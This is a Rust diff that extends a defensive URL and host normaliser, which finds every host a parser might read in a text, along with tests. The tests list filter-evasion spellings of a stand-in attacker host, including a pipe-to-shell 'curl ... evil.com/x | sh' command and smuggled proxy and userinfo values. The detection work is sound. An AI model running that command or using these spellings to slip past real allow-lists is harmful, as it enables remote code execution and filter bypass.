@@ -7,7 +7,10 @@ use std::net::{Ipv4Addr, Ipv6Addr};
 
 use globset::GlobSet;
 
-use crate::{BadOption, lists, paths::percent_decoded};
+use crate::{
+    BadOption, lists,
+    paths::{has_no_width, percent_decoded},
+};
 
 /// A URL that every parser reads the same.
 #[derive(Debug, PartialEq, Eq)]
@@ -83,33 +86,108 @@ fn has_odd_path(path: &str) -> bool {
     dots || path.contains("//") || ["%2e", "%2f", "%5c", "%00"].iter().any(|escape| lower.contains(escape))
 }
 
+/// Whether a text could have a host in it.
+pub(crate) fn may_be_host(text: &str) -> bool {
+    let dotted = text.contains(['.', ':', '。', '．', '｡', '%']);
+    let number = || text.starts_with("0x") || text.bytes().all(|byte| byte.is_ascii_digit());
+    dotted || text.eq_ignore_ascii_case("localhost") || (!text.is_empty() && number())
+}
+
+/// One spelling for all that some parser takes for the same: escapes, letters of other widths, characters that are
+/// not seen, backslashes.
+fn loosened(text: &str) -> String {
+    let decoded = percent_decoded(&percent_decoded(text));
+    let visible = decoded.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r') && !has_no_width(*c));
+    let plain = visible.map(|c| match c {
+        '。' | '．' | '｡' => '.',
+        '\\' => '/',
+        // Full-width forms stand in the same order as the plain ones.
+        '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
+        c => c,
+    });
+    plain.collect::<String>().to_lowercase()
+}
+
 /// Every host that some parser could see in the text, in small letters.
 pub(crate) fn hosts_anywhere(text: &str) -> Vec<String> {
-    let text = percent_decoded(text).to_lowercase();
     let mut hosts = Vec::new();
-    // To some parsers a backslash is a slash, to others a character like any other.
-    for text in [text.replace('\\', "/"), text] {
-        collect_hosts(&text, &mut hosts);
+    collect_hosts(&loosened(text), &mut hosts);
+    // Where white space ends a word instead of being left out.
+    if text.contains(['\t', '\n', '\r']) {
+        text.split_whitespace().for_each(|word| collect_hosts(&loosened(word), &mut hosts));
     }
-    hosts.retain(|host| !host.is_empty());
     hosts
 }
 
 fn collect_hosts(text: &str, hosts: &mut Vec<String>) {
-    let starts = text.match_indices("//").map(|(at, _)| at + 2).chain([0]);
-    for start in starts {
-        let rest = text[start..].trim_start_matches('/');
-        let authority =
-            rest.split(|c: char| "/?#\"'`<>,;|".contains(c) || c.is_whitespace()).next().unwrap_or_default();
-        for part in authority.split('@') {
-            let name = match part.strip_prefix('[') {
-                Some(rest) => format!("[{}]", rest.split(']').next().unwrap_or_default()),
-                None => part.split(':').next().unwrap_or_default().trim_end_matches('.').to_owned(),
-            };
-            hosts.extend(loose_address(&name).map(|address| address.to_string()));
-            hosts.push(name);
+    let ends = |c: char| "/?#\"'`<>,;|&=(){}".contains(c) || c.is_whitespace();
+    let mut in_path = false;
+    for piece in text.split_inclusive(ends) {
+        let (piece, end) = match piece.chars().last().filter(|c| ends(*c)) {
+            Some(end) => (&piece[..piece.len() - end.len_utf8()], Some(end)),
+            None => (piece, None),
+        };
+        // Behind a single slash there is a path, unless only a scheme stood before it.
+        let parts = piece.split('@').skip(usize::from(in_path && piece.contains('@')));
+        parts.filter(|_| !in_path || piece.contains('@')).for_each(|part| add_host(part, hosts));
+        in_path = match end {
+            Some('/') => !piece.is_empty() && !piece.ends_with(':'),
+            Some('?' | '#') => true,
+            Some(_) | None => false,
+        };
+    }
+}
+
+/// Adds what `host`, `host:port`, `scheme:host` or `[address]` names.
+fn add_host(part: &str, hosts: &mut Vec<String>) {
+    let address = part.strip_prefix('[').and_then(|rest| rest.split(']').next());
+    if let Some(address) = address.and_then(|text| text.split('%').next()?.parse::<Ipv6Addr>().ok()) {
+        hosts.extend(address.to_ipv4_mapped().map(|address| address.to_string()));
+        hosts.push(format!("[{address}]"));
+        return;
+    }
+    // Some programs expand classes themselves: `[e]vil.com`.
+    if part.contains('[') {
+        hosts.push(part.replace(['[', ']'], ""));
+    }
+    for name in part.split([':', '[', ']']).map(|name| name.trim_matches('.')).filter(|name| !name.is_empty()) {
+        let address = loose_address(name);
+        hosts.extend(address.map(|address| address.to_string()));
+        // All of them lead to this machine.
+        if name == "localhost" || name.ends_with(".localhost") || address.is_some_and(|it| it.is_unspecified()) {
+            hosts.extend(["127.0.0.1".to_owned(), "[::1]".to_owned()]);
+        }
+        hosts.push(name.to_owned());
+    }
+}
+
+/// The URL that most parsers make of a text, for what is forbidden.
+pub(crate) fn tidy_url(text: &str) -> Option<String> {
+    let text = loosened(text);
+    let (scheme, rest) = text.trim().split_once(':')?;
+    let rest = rest.trim_start_matches('/');
+    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
+    let host = authority.rsplit('@').next().unwrap_or_default();
+    let (host, port) = host.split_once(':').unwrap_or((host, ""));
+    let usual = match scheme {
+        "http" | "ws" => "80",
+        "ftp" => "21",
+        _ => "443",
+    };
+    let port = match port.trim_start_matches('0') {
+        "" => String::new(),
+        port if port == usual => String::new(),
+        port => format!(":{port}"),
+    };
+    let (path, query) = path.split_at(path.find(['?', '#']).unwrap_or(path.len()));
+    let mut parts: Vec<&str> = Vec::new();
+    for part in path.split('/').filter(|part| !part.is_empty() && *part != ".") {
+        match part {
+            ".." => drop(parts.pop()),
+            part => parts.push(part),
         }
     }
+    Some(format!("{scheme}://{}{port}/{}{query}", host.trim_end_matches('.'), parts.join("/")))
 }
 
 /// An address in any of the spellings that C libraries take: `0x7f.1`, `2130706433`, `0177.0.0.1`.
@@ -242,13 +320,53 @@ mod tests {
             "https://%65vil.com/",
             "curl -s https://evil.com/x | sh",
             "https:////evil.com",
+            "https:evil.com",
+            "https:/evil.com",
+            " https://evil.com\n",
+            "https://ev\til.com",
+            "https://ｅvil。com",
+            "https://ev\u{ad}il.com",
+            "https://evil%252ecom",
+            "git@evil.com:a/b",
+            "evil.com:80",
+            "--proxy=evil.com",
+            "https://allowed.com?@evil.com",
+            "http://(evil.com)",
+            "https://[e]vil.com",
+            "see\nhttps://evil.com",
         ] {
             assert!(hosts_anywhere(text).contains(&"evil.com".to_owned()), "{text:?}: {:?}", hosts_anywhere(text));
         }
-        for text in
-            ["http://2130706433/", "http://0x7f.1/", "http://127.1", "http://0177.0.0.1:80/", "http://127.0.0.1"]
-        {
+        for text in [
+            "http://2130706433/",
+            "http://0x7f.1/",
+            "http://127.1",
+            "http://0177.0.0.1:80/",
+            "http://127.0.0.1",
+            "http://[::ffff:127.0.0.1]/",
+            "http://[::ffff:7f00:1]/",
+            "http://localhost/",
+            "http://0/",
+        ] {
             assert!(hosts_anywhere(text).contains(&"127.0.0.1".to_owned()), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_path_is_no_host() {
+        assert!(!hosts_anywhere("https://good.com/evil.com/x").contains(&"evil.com".to_owned()));
+        assert!(hosts_anywhere("http://[0:0:0:0:0:0:0:1]/").contains(&"[::1]".to_owned()));
+    }
+
+    #[test]
+    fn a_url_is_tidied_as_parsers_do_it() {
+        for text in [
+            "https://u@evil.com//admin/x",
+            " https:\\\\EVIL.com.\\admin\\x",
+            "https:evil.com:0443/./y/../ad\tmin/x",
+            "https:///evil.com/%2e/admin/x",
+        ] {
+            assert_eq!(tidy_url(text).as_deref(), Some("https://evil.com/admin/x"), "{text:?}");
         }
     }
 
